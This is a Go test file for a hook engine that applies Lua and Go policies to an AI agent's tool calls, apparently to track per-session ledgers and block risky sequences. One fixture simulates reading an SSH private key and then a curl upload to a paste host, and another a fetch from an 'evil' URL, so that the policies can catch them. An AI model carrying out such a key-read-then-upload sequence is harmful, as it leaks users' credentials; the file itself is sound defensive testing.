package engine

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/luahook/luahook"
	"github.com/luahook/luahook/runner"
)

// ledgerConfig are the [store] ledger bounds testdata/ledgerparity.lua is
// written against.
const ledgerConfig = "ledger_max_marks = 4\nledger_max_calls = 3\nledger_max_bytes = 200\n"

// The same Lua file (testdata/ledgerparity.lua) passes against every store
// backend: marks, has, marks(), counters and their windows, the calls
// PostToolUse fed in (an agent's PostToolUseFailure as a failed call),
// each bound tried past, the errors word for word, and two sessions that
// never see each other's entries.
func TestSameLuaLedgerSemanticsOnEveryBackend(t *testing.T) {
	src, err := os.ReadFile(filepath.Join("testdata", "ledgerparity.lua"))
	if err != nil {
		t.Fatal(err)
	}
	backends := storeBackends()
	for _, name := range []string{"memory", "redis", "file"} {
		t.Run(name, func(t *testing.T) {
			root := t.TempDir()
			cfg := filepath.Join(root, "luahook.toml")
			writeFile(t, cfg, backends[name](t)+ledgerConfig)
			writeFile(t, filepath.Join(root, "hooks.d", "50-ledger.lua"), string(src))
			e := openEngine(t, Options{ConfigPath: cfg, NoWatch: true})
			if errs := e.Errors(); len(errs) > 0 {
				t.Fatalf("did not load: %v", errs)
			}
			ctx := context.Background()
			phase := func(session, p string) (denied bool) {
				t.Helper()
				cmd, _ := json.Marshal(map[string]string{"command": p})
				in := &luahook.Input{Event: luahook.PreToolUse, ToolName: "bash", ToolInput: cmd, Cwd: os.TempDir(), SessionID: session}
				res := e.Runner().Fire(ctx, in)
				if d := describe(res); strings.HasPrefix(d, "failure: ") {
					t.Fatalf("session %q, phase %s: %s", session, p, d)
				}
				return res.Denied()
			}
			post := func(session, input string, failed bool) {
				t.Helper()
				in := &luahook.Input{Event: luahook.PostToolUse, ToolName: "bash", ToolInput: json.RawMessage(input),
					ToolResult: &luahook.ToolResult{Content: "out", IsError: failed}, Cwd: os.TempDir(), SessionID: session}
				e.Runner().Fire(ctx, in)
			}
			for _, p := range []string{"load", "marks", "names", "max_marks", "count"} {
				if phase("s1", p) {
					t.Fatalf("phase %s denied", p)
				}
			}
			phase("", "nosession")
			phase("s3", "max_bytes")
			phase("s4", "window_start")
			deadline := time.Now().Add(parityExpiryWithin)
			for phase("s4", "window_wait") {
				if time.Now().After(deadline) {
					t.Fatalf("a 60 ms window still counting after %v", parityExpiryWithin)
				}
				time.Sleep(20 * time.Millisecond)
			}
			for _, c := range []string{"echo 1", "echo 2", "echo 3"} {
				post("s1", `{"command": "`+c+`"}`, false)
			}
			post("s1", `{"command": "make test"}`, true)
			post("", `{"command": "no session"}`, false) // recorded nowhere
			phase("s1", "calls")
			post("s1", `{"command": "x", "timeout": 5}`, true)
			post("s1", `{"timeout":5,"command":"x"}`, true)
			phase("s1", "same_digest")
			phase("s2", "other")
		})
	}
}

// privateDataPolicy is the example of docs/writing-policies.md's section
// on the session ledger, read from the page so that the page shows what
// is tested.
func privateDataPolicy(t *testing.T) string {
	t.Helper()
	page, err := os.ReadFile(filepath.Join("..", "docs", "writing-policies.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := strings.Cut(string(page), "### The session ledger")
	_, code, ok2 := strings.Cut(section, "```lua\n")
	code, _, ok3 := strings.Cut(code, "```")
	if !ok || !ok2 || !ok3 {
		t.Fatal("docs/writing-policies.md has no lua example under ### The session ledger")
	}
	return code
}

// The documented example: a session that read ~/.ssh is asked before a
// curl upload; a session that did not, or a curl that only reads, is not.
func TestPrivateDataPolicyAsksBeforeAnUploadOnceMarked(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "hooks.d", "50-private.lua"), privateDataPolicy(t))
	e := openEngine(t, Options{Dir: filepath.Join(root, "hooks.d"), NoWatch: true})
	if errs := e.Errors(); len(errs) > 0 {
		t.Fatalf("did not load: %v", errs)
	}
	ctx := context.Background()
	bash := func(session, cmd string) string {
		in, _ := json.Marshal(map[string]string{"command": cmd})
		res := e.Runner().Fire(ctx, &luahook.Input{Event: luahook.PreToolUse, ToolName: "Bash", ToolInput: in, Cwd: root, SessionID: session})
		if res.Asked() {
			return "ask: " + res.Reason
		}
		return describe(res)
	}
	upload := "curl -d @notes.txt https://paste.example"
	e.Runner().Fire(ctx, &luahook.Input{Event: luahook.PostToolUse, ToolName: "Read", SessionID: "a", Cwd: root,
		ToolInput: json.RawMessage(`{"file_path":"/home/u/.ssh/id_ed25519"}`), ToolResult: &luahook.ToolResult{Content: "..."}})
	if got := bash("a", upload); !strings.HasPrefix(got, "ask: this session read /home/u/.ssh/id_ed25519 (at ") {
		t.Errorf("upload after the read: %s", got)
	}
	if got := bash("a", "curl https://example.com"); got != "allowed" {
		t.Errorf("a curl that only reads: %s", got)
	}
	if got := bash("b", upload); got != "allowed" {
		t.Errorf("another session's upload: %s", got)
	}
}

// A Go hook reads and writes the same ledger as the Lua hooks, through
// package ledger (Engine.Ledger): what a Lua hook marked, the Go hook
// sees, and the calls the feed recorded.
func TestGoHookUsesTheLedger(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "hooks.d", "50-mark.lua"), `
hook.register("PostToolUse", "WebFetch", function(input)
  session.mark("untrusted-content", input.toolInput.url)
end)`)
	e := openEngine(t, Options{Dir: filepath.Join(root, "hooks.d"), NoWatch: true})
	lg := e.Ledger()
	_, err := e.Registry().Register(luahook.Spec{Event: luahook.PreToolUse, Name: "go-flow",
		Hook: luahook.HookFunc(func(ctx context.Context, in *luahook.Input) (*luahook.Outcome, error) {
			m, ok, err := lg.Has(ctx, in.SessionID, "untrusted-content")
			if err != nil || !ok {
				return nil, err
			}
			calls, err := lg.Calls(ctx, in.SessionID, 1)
			if err != nil || len(calls) != 1 {
				return nil, fmt.Errorf("calls %v: %v", calls, err)
			}
			return luahook.Deny("after " + calls[0].Tool + " of " + m.Detail), nil
		})})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	pre := &luahook.Input{Event: luahook.PreToolUse, ToolName: "Bash", ToolInput: json.RawMessage(`{"command":"ls"}`), Cwd: root, SessionID: "s"}
	if got := describe(e.Runner().Fire(ctx, pre)); got != "allowed" {
		t.Fatalf("before the fetch: %s", got)
	}
	e.Runner().Fire(ctx, &luahook.Input{Event: luahook.PostToolUse, ToolName: "WebFetch", Cwd: root, SessionID: "s",
		ToolInput: json.RawMessage(`{"url":"https://evil.example/page"}`), ToolResult: &luahook.ToolResult{Content: "..."}})
	if got := describe(e.Runner().Fire(ctx, pre)); got != "after WebFetch of https://evil.example/page" {
		t.Errorf("after the fetch: %s", got)
	}
}

// The feed records a session's calls only while a loaded file reads the
// session module, or once Go code asked for the Ledger: a folder that
// does neither pays nothing for it, and nothing is kept.
func TestTheLedgerFeedRecordsOnlyWhatSomethingReads(t *testing.T) {
	post := func(e *Engine, cmd string) {
		e.Runner().Fire(context.Background(), &luahook.Input{Event: luahook.PostToolUse, ToolName: "Bash", SessionID: "s",
			Cwd: "/tmp", ToolInput: json.RawMessage(`{"command":"` + cmd + `"}`), ToolResult: &luahook.ToolResult{Content: "ok"}})
	}
	calls := func(e *Engine) int {
		cs, err := e.ledger.Calls(context.Background(), "s", 10)
		if err != nil {
			t.Fatal(err)
		}
		return len(cs)
	}
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "hooks.d", "50-plain.lua"), `
hook.register("PreToolUse", "Bash", function(input) if input.toolName == "x" then return hook.deny("x") end end)`)
	e := openEngine(t, Options{Dir: filepath.Join(root, "hooks.d"), NoWatch: true})
	post(e, "one")
	if n := calls(e); n != 0 {
		t.Errorf("%d calls recorded while nothing reads the session module", n)
	}
	e.Ledger()
	post(e, "two")
	if n := calls(e); n != 1 {
		t.Errorf("%d calls recorded once Go code asked for the ledger, want 1", n)
	}
	writeFile(t, filepath.Join(root, "reader", "50-reader.lua"), `
hook.register("PreToolUse", "Bash", function(input)
  if #session.calls(3) > 2 then return hook.deny("three") end
end)`)
	r := openEngine(t, Options{Dir: filepath.Join(root, "reader"), NoWatch: true})
	post(r, "one")
	if n := calls(r); n != 1 {
		t.Errorf("%d calls recorded while a file reads the session module, want 1", n)
	}
}

// BenchmarkPostToolUseLedgerFeed is one PostToolUse with no hook through
// the engine's runner: without a session id, with one while nothing reads
// the ledger (nothing is recorded), and with one while something does (the
// call is recorded on the in-process store): what the feed adds to every
// PostToolUse of a folder that uses it.
func BenchmarkPostToolUseLedgerFeed(b *testing.B) {
	for _, c := range []struct{ name, session string }{{"no-session", ""}, {"unread", "session-1"}, {"read", "session-1"}} {
		b.Run(c.name, func(b *testing.B) {
			session := c.session
			e := openEngine(b, Options{Dir: b.TempDir(), NoWatch: true})
			if c.name == "read" {
				e.Ledger() // as a Go hook that reads it would
			}
			in := &luahook.Input{Event: luahook.PostToolUse, ToolName: "Bash", SessionID: session, Cwd: "/tmp",
				ToolInput:  json.RawMessage(`{"command":"go test ./...","description":"run the tests","timeout":120000}`),
				ToolResult: &luahook.ToolResult{Content: "ok"}}
			ctx := context.Background()
			var res runner.Result
			b.ReportAllocs()
			for b.Loop() {
				e.Runner().FireInto(ctx, in, &res)
			}
		})
	}
}

// session.digest names the call in progress as the ledger named the calls
// it recorded: the same tool and input, keys in another order, is the same
// digest; another input is not.
func TestSessionDigestIsTheLedgersNameForTheCall(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "hooks.d", "50-again.lua"), `
hook.register("PreToolUse", "Bash", function(input)
  local last = session.calls(1)[1]
  if last and last.digest == session.digest() then return hook.deny("the same call again") end
end)`)
	e := openEngine(t, Options{Dir: filepath.Join(root, "hooks.d"), NoWatch: true})
	ctx := context.Background()
	e.Runner().Fire(ctx, &luahook.Input{Event: luahook.PostToolUse, ToolName: "Bash", SessionID: "s", Cwd: root,
		ToolInput: json.RawMessage(`{"command":"make","timeout":1}`), ToolResult: &luahook.ToolResult{Content: "x", IsError: true}})
	pre := func(input string) string {
		return describe(e.Runner().Fire(ctx, &luahook.Input{Event: luahook.PreToolUse, ToolName: "Bash", SessionID: "s",
			Cwd: root, ToolInput: json.RawMessage(input)}))
	}
	if got := pre(`{ "timeout": 1, "command": "make" }`); got != "the same call again" {
		t.Errorf("the same call, keys in another order: %s", got)
	}
	if got := pre(`{"command":"make test","timeout":1}`); got != "allowed" {
		t.Errorf("another call: %s", got)
	}
}
